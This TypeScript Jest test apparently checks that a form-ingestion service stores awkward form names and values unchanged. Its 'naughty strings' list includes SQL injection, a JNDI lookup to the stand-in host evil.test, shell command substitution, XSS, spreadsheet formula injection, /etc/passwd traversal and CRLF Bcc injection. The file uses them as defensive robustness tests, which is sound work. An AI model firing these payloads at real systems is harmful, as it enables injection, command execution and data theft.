import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { waitFor } from '@ringback/test-kit';

import { openTestStand, type TestStand } from './test-stand.ts';

/** Texts that break programs which do not expect them. */
const NAUGHTY = [
  ...['undefined', 'null', 'NaN', 'true', '[object Object]', '0', '-1', '1e400', '0x7f', '٧٩١٦', '１２３', '½', '∞'],
  ...["'", '"', '`', "' OR 1=1 --", "'; DROP TABLE leads; --", '$1', '${jndi:ldap://evil.test/a}', '$(id)', '`id`'],
  ...[
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    'javascript:alert(1)',
    '&lt;b&gt;',
    '{{7*7}}',
    '{% if %}',
  ],
  ...[
    '=HYPERLINK("http://evil.test")',
    '@SUM(1+1)',
    '+1',
    '-1+1',
    '%n%s%d',
    '%00',
    '%',
    '%zz',
    '\\',
    '\\u0000',
    '\\x00',
  ],
  ...[
    '../../etc/passwd',
    'C:\\CON',
    'file:///etc/passwd',
    'https://evil.test/?a=1&b=2#c',
    'a=1&b=2;c',
    'a+b',
    ' a ',
    '\t',
  ],
  ...[
    'ё',
    'Ω≈ç√∫',
    '𝒳𠜎',
    '👩‍👩‍👧‍👦',
    '\u202eevil',
    '\u200b',
    '\ufeff',
    '\u2028',
    'Z̮̞̠a̱l̢g̡o',
    'ﷺ',
    '田中さん',
    'مرحبا',
    'İı',
    'ǅ',
  ],
  ...[
    'line\nend',
    'line\r\nBcc: evil@evil.test',
    '\r\n.\r\n',
    '__proto__',
    'constructor',
    'toString',
    'x'.repeat(10_000),
  ],
];

const form = NAUGHTY.flatMap((text, index) => [
  [`value ${index}`, text],
  [text.slice(0, 200).trim() === '' || /["\r\n%]/.test(text) ? `name ${index}` : text.slice(0, 200), String(index)],
]) as [name: string, value: string][];

function multipart(): string {
  const parts = form.map(
    ([name, value]) => `--bound\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
  );
  return `${parts.join('')}--bound--\r\n`;
}

describe('texts that break programs', () => {
  let stand: TestStand;
  let widget: string;
  beforeAll(async () => {
    stand = await openTestStand();
    await stand.startWorker();
    widget = await stand.addWidget({ letterTo: [], webhooks: [] });
    await stand.submit(widget, { name: 'The widget is known to ingest from here on' });
  });
  afterAll(() => stand.close());

  it.each([
    ['urlencoded', 'application/x-www-form-urlencoded', () => new URLSearchParams(form).toString()],
    ['multipart', 'multipart/form-data; boundary=bound', multipart],
    ['JSON', 'application/json', () => JSON.stringify(form.map(([name, value]) => ({ name, value })))],
  ])('come back as they were sent, in names and values, %s', async (_kind, contentType, write) => {
    const url = `${stand.ingest.url}/formReceiver?widgetHash=${widget}`;
    const request = { method: 'POST', headers: { 'content-type': contentType }, body: write() };
    const answer = await waitFor(async () => {
      const tried = await fetch(url, request);
      // A busy machine stores nothing at times.
      return tried.status !== 503 && tried;
    });
    expect(answer.status).toBe(200);
    const id = answer.headers.get('ringback-lead-id') ?? '';
    const lead = await stand.waitForLead(id, ({ state }) => state === 'finished');
    expect(lead.fields.map(({ name, value }) => [name, value])).toEqual(form);
  });
});
